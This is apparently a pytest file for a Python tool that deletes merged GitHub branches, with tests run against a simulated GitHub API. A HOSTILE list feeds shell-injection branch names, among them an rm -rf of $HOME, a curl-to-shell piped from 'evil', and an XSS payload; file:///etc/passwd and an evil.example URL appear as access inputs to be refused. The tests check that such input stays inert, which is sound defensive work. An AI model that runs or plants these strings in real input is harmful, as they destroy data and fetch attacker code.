"""Merged branches against a stand-in for GitHub that holds each request and answer against GitHub's own description."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from typing import Any

import pytest
from answering import Fault
from github_stand_in import TOKEN, GitHubStandIn, Pull, World, sha

from ferryman.errors import FerrymanError, Refused, Unreachable, UsageError
from ferryman.github.api import PUBLIC_API, Access, GitHub, find_access
from ferryman.github.branches import BranchReport, Verdict, clean_branches

HOSTILE = [
    "$(touch${IFS}pwned)",
    '";rm${IFS}-rf${IFS}$HOME;#',
    "a'||curl${IFS}evil|sh;'",
    "`id`",
    "feature/../../main".replace("..", "__"),
    "percent%2Fmain",
    "-D",
    "heads/main",
    "refs/heads/main",
    "with#hash?and=query&more",
    "right\N{RIGHT-TO-LEFT OVERRIDE}left",
    "\N{SHIP}\N{VARIATION SELECTOR-16}" * 30,
    "<img/src=x/onerror=alert(1)>",
]


def world() -> World:
    """main and develop with some history; `add` gives it branches."""
    made = World()
    made.commit("root")
    made.commit("work", sha("root"))
    made.commit("merge", sha("root"), sha("work"))
    made.commit("main", sha("merge"))
    made.commit("develop", sha("merge"))
    made.commit("own", sha("root"))
    made.branches = {"main": sha("main"), "develop": sha("develop")}
    return made


@pytest.fixture
def github() -> Iterator[GitHubStandIn]:
    with GitHubStandIn(world()).running() as made:
        yield made
        assert made.violations == []


def clean(github: GitHubStandIn, *patterns: str, is_dry: bool = False, **options: Any) -> BranchReport:
    report = BranchReport("acme/shop")
    paused = options.pop("paused", [])
    client = GitHub(find_access(github.variables), pause=paused.append, now=lambda: 1_000_000.0, **options)
    try:
        clean_branches(client, patterns, report, is_dry=is_dry, on_line=lambda _: None)
    finally:
        client.close()
    return report


def removed(report: BranchReport) -> set[str]:
    return {verdict.name for verdict in report.removed}


def kept(report: BranchReport) -> dict[str, str]:
    return {verdict.name: verdict.why for verdict in report.kept}


def everything(github: GitHubStandIn) -> None:
    """One branch of every kind."""
    found = github.world
    found.branches |= {
        "merged": sha("work"),
        "unmerged": sha("own"),
        "protected": sha("work"),
        "ruled": sha("work"),
        "open": sha("work"),
        "open-base": sha("work"),
        "squashed": sha("own"),
        "squashed-and-moved": found.commit("moved", sha("own")),
        "merged-elsewhere": sha("own"),
        "closed": sha("own"),
        "new": sha("main"),
        "fast-forwarded": sha("main"),
        "staging": sha("work"),
        "release/1.0": sha("work"),
        "orphan": found.commit("orphan"),
        "of-a-fork": sha("own"),
        "also-a-fork": sha("work"),
    }
    found.protected = {"main", "protected"}
    found.rules = {"ruled": ["deletion"], "merged": ["non_fast_forward"]}
    found.pulls = [
        Pull(1, "open", sha("work")),
        Pull(2, "elsewhere", sha("own"), base="open-base"),
        Pull(3, "squashed", sha("own"), is_open=False, is_merged=True),
        Pull(4, "squashed-and-moved", sha("own"), base="develop", is_open=False, is_merged=True),
        Pull(5, "merged-elsewhere", sha("own"), base="unmerged", is_open=False, is_merged=True),
        Pull(6, "closed", sha("own"), is_open=False),
        Pull(7, "fast-forwarded", sha("main"), is_open=False, is_merged=True),
        Pull(8, "of-a-fork", sha("own"), is_open=False, is_merged=True, head_repository="acme/fork"),
        Pull(9, "also-a-fork", sha("x"), head_repository="eve/shop"),
        Pull(10, "gone", sha("x"), head_repository=None),
    ]


def test_exactly_the_merged_branches_go_and_each_other_one_has_its_reason(github: GitHubStandIn) -> None:
    everything(github)

    report = clean(github, "staging", "release/*")

    assert {verdict.name: verdict.why for verdict in report.removed} == {
        "merged": "merged into develop",
        "also-a-fork": "merged into develop",
        "squashed": "pull request 3 was merged into main",
        "fast-forwarded": "pull request 7 was merged into main",
    }
    assert kept(report) == {
        "main": "lasting",
        "develop": "lasting",
        "protected": "protected",
        "ruled": "a rule forbids its deletion",
        "open": "has an open pull request",
        "open-base": "is the base of an open pull request",
        "squashed-and-moved": "not merged",
        "merged-elsewhere": "not merged",
        "closed": "not merged",
        "unmerged": "not merged",
        "orphan": "not merged",
        "of-a-fork": "not merged",
        "new": "new: the same commit as main",
        "staging": "kept by ferryman.toml",
        "release/1.0": "kept by ferryman.toml",
    }
    assert set(github.world.branches) == set(kept(report))
    assert report.failed == []


def test_a_dry_run_tells_the_same_and_only_reads(github: GitHubStandIn) -> None:
    everything(github)
    before = dict(github.world.branches)

    told = clean(github, is_dry=True)

    assert github.world.branches == before
    assert {method for method, _ in github.requests} == {"GET"}
    assert removed(told) == removed(clean(github))


def test_a_default_branch_of_another_name_stays_and_counts(github: GitHubStandIn) -> None:
    github.world.default = "trunk"
    github.world.branches |= {"trunk": github.world.commit("trunk", sha("own")), "done": sha("own")}

    report = clean(github)

    assert [(verdict.name, verdict.why) for verdict in report.removed] == [("done", "merged into trunk")]
    assert kept(report)["trunk"] == "lasting"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_is_only_a_name(github: GitHubStandIn, name: str) -> None:
    github.world.branches |= {name: sha("work"), f"{name}-own": sha("own")}

    report = clean(github)

    assert removed(report) == {name}
    assert set(github.world.branches) == {"main", "develop", f"{name}-own"}


def test_hundreds_of_branches_and_pull_requests_come_in_pages(github: GitHubStandIn) -> None:
    github.world.branches |= {f"done-{number:03}": sha("work") for number in range(205)}
    github.world.pulls = [Pull(number, f"done-{number:03}", sha("work")) for number in range(201)]

    assert removed(clean(github)) == {f"done-{number:03}" for number in range(201, 205)}


def test_a_branch_that_moves_between_look_and_deletion_stays(github: GitHubStandIn) -> None:
    github.world.branches |= {"a": sha("work"), "b": sha("work"), "c": sha("work")}

    def push(call: Any) -> None:
        if call.names.get("ref") == "heads/a" and call.method == "DELETE":
            github.world.branches["b"] = sha("own")
            del github.world.branches["c"]

    github.before = push
    report = clean(github)

    assert removed(report) == {"a"}
    assert kept(report)["b"] == "moved since it was looked at"
    assert kept(report)["c"] == "gone already"
    assert github.world.branches["b"] == sha("own")


def test_a_pull_request_that_is_opened_meanwhile_keeps_its_branches(github: GitHubStandIn) -> None:
    github.world.branches |= {"a": sha("work"), "b": sha("work"), "c": sha("work")}

    def open_pull(call: Any) -> None:
        if call.template.endswith("/compare/{basehead}") and not github.world.pulls:
            github.world.pulls.append(Pull(1, "a", sha("work"), base="b"))

    github.before = open_pull
    report = clean(github)

    assert removed(report) == {"c"}
    assert kept(report)["a"] == kept(report)["b"] == "a pull request was opened meanwhile"


def test_what_github_does_not_delete_is_told_and_the_others_go(github: GitHubStandIn) -> None:
    github.world.branches |= {"a": sha("work"), "b": sha("work")}
    github.faults = [Fault("DELETE", "heads/a$", 422, body={"message": "no"})]

    report = clean(github)

    assert report.failed == [Verdict("a", sha("work"), "GitHub did not delete it (status 422)")]
    assert removed(report) == {"b"}


@pytest.mark.parametrize("is_carried_out", [True, False])
@pytest.mark.parametrize("status", [500, 0])
def test_a_deletion_without_an_answer_is_looked_after(github: GitHubStandIn, status: int, is_carried_out: bool) -> None:
    github.world.branches |= {"a": sha("work"), "b": sha("work")}
    github.faults = [Fault("DELETE", "heads/a$", status, is_carried_out=is_carried_out)]

    report = clean(github, timeout=1.0)

    assert removed(report) == ({"a", "b"} if is_carried_out else {"b"})
    assert [verdict.name for verdict in report.failed] == ([] if is_carried_out else ["a"])
    assert len([path for method, path in github.requests if method == "DELETE"]) == 2


def test_a_token_that_may_not_delete_ends_it_and_what_was_done_stays_told(github: GitHubStandIn) -> None:
    github.world.branches |= {"a": sha("work"), "b": sha("work"), "c": sha("work")}
    github.faults = [Fault("DELETE", "heads/b$", 403, body={"message": "Resource not accessible by integration"})]
    report = BranchReport("acme/shop")

    with (
        closing(GitHub(find_access(github.variables))) as client,
        pytest.raises(Refused, match="Resource not accessible by integration") as caught,
    ):
        clean_branches(client, (), report, is_dry=False, on_line=lambda _: None)

    assert caught.value.code == "github-forbidden"
    assert removed(report) == {"a"}
    assert set(github.world.branches) == {"main", "develop", "b", "c"}


@pytest.mark.parametrize(
    ("fault", "kind", "code"),
    [
        (Fault("GET", "/branches$", 401, times=9), Refused, "github-token-refused"),
        (Fault("GET", "/branches$", 403, times=9), Refused, "github-forbidden"),
        (Fault("GET", "/shop$", 404, times=9), Refused, "github-forbidden"),
        (Fault("GET", "/branches$", 404, times=9), Unreachable, "github-unexpected"),
        (Fault("GET", "/branches$", 301, times=9), Unreachable, "github-unexpected"),
        (Fault("GET", "/branches$", 200, body={"no": "list"}, times=9), Unreachable, "github-unexpected"),
        (Fault("GET", "/branches$", 502, times=9), Unreachable, "github-unreachable"),
        (Fault("GET", "/pulls$", 0, times=9), Unreachable, "github-unreachable"),
        (Fault("GET", "/pulls$", 429, {"Retry-After": "61"}), Unreachable, "github-rate-limited"),
        (Fault("GET", "/pulls$", 429, times=9), Unreachable, "github-rate-limited"),
        (
            Fault("GET", "/pulls$", 403, {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1003600"}),
            Unreachable,
            "github-rate-limited",
        ),
    ],
)
def test_a_failure_of_github_has_its_code_and_nothing_is_deleted(
    github: GitHubStandIn, fault: Fault, kind: type[FerrymanError], code: str
) -> None:
    github.world.branches |= {"a": sha("work")}
    github.faults = [fault]

    with pytest.raises(kind) as caught:
        clean(github, timeout=0.2)

    assert caught.value.code == code
    assert TOKEN not in f"{caught.value.message}{caught.value.hint}"
    assert "a" in github.world.branches


@pytest.mark.parametrize(
    ("faults", "pauses"),
    [
        ([Fault("GET", "/pulls$", 503)], [1.0]),
        ([Fault("GET", "/pulls$", 429, {"Retry-After": "7"})], [7.0]),
        ([Fault("GET", "/pulls$", 403, {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1000004"})], [5.0]),
        ([Fault("DELETE", "heads/a", 403, {"Retry-After": "3"})], [3.0]),
    ],
)
def test_a_short_wait_is_waited(github: GitHubStandIn, faults: list[Fault], pauses: list[float]) -> None:
    github.world.branches |= {"a": sha("work")}
    github.faults = faults
    paused: list[float] = []

    assert removed(clean(github, paused=paused)) == {"a"}
    assert paused == pauses


@pytest.mark.parametrize(
    ("changed", "what"),
    [
        ({"GITHUB_TOKEN": ""}, "GITHUB_TOKEN must be set"),
        ({"GITHUB_REPOSITORY": "", "GITHUB_TOKEN": ""}, "GITHUB_REPOSITORY and GITHUB_TOKEN must"),
        ({"GITHUB_REPOSITORY": "shop"}, "owner/name"),
        ({"GITHUB_REPOSITORY": "acme/shop/../../other"}, "owner/name"),
        ({"GITHUB_REPOSITORY": "acme/.."}, "owner/name"),
        ({"GITHUB_API_URL": "http://api.github.com"}, "https://"),
        ({"GITHUB_API_URL": "http://127.0.0.1.evil.example"}, "https://"),
        ({"GITHUB_API_URL": "https://"}, "https://"),
        ({"GITHUB_API_URL": "file:///etc/passwd"}, "https://"),
    ],
)
def test_an_access_that_is_not_usable_is_refused(changed: dict[str, str], what: str) -> None:
    variables = {"GITHUB_TOKEN": "secret", "GITHUB_REPOSITORY": "acme/shop", **changed}

    with pytest.raises(UsageError, match=what) as caught:
        find_access(variables)

    assert caught.value.code == "github-not-configured"
    assert "secret" not in str(caught.value)


def test_an_access_does_not_show_its_token() -> None:
    access = find_access({"GITHUB_TOKEN": "secret", "GITHUB_REPOSITORY": "acme/shop", "GITHUB_API_URL": ""})
    assert access == Access("acme/shop", "secret", PUBLIC_API)
    assert "secret" not in repr(access)
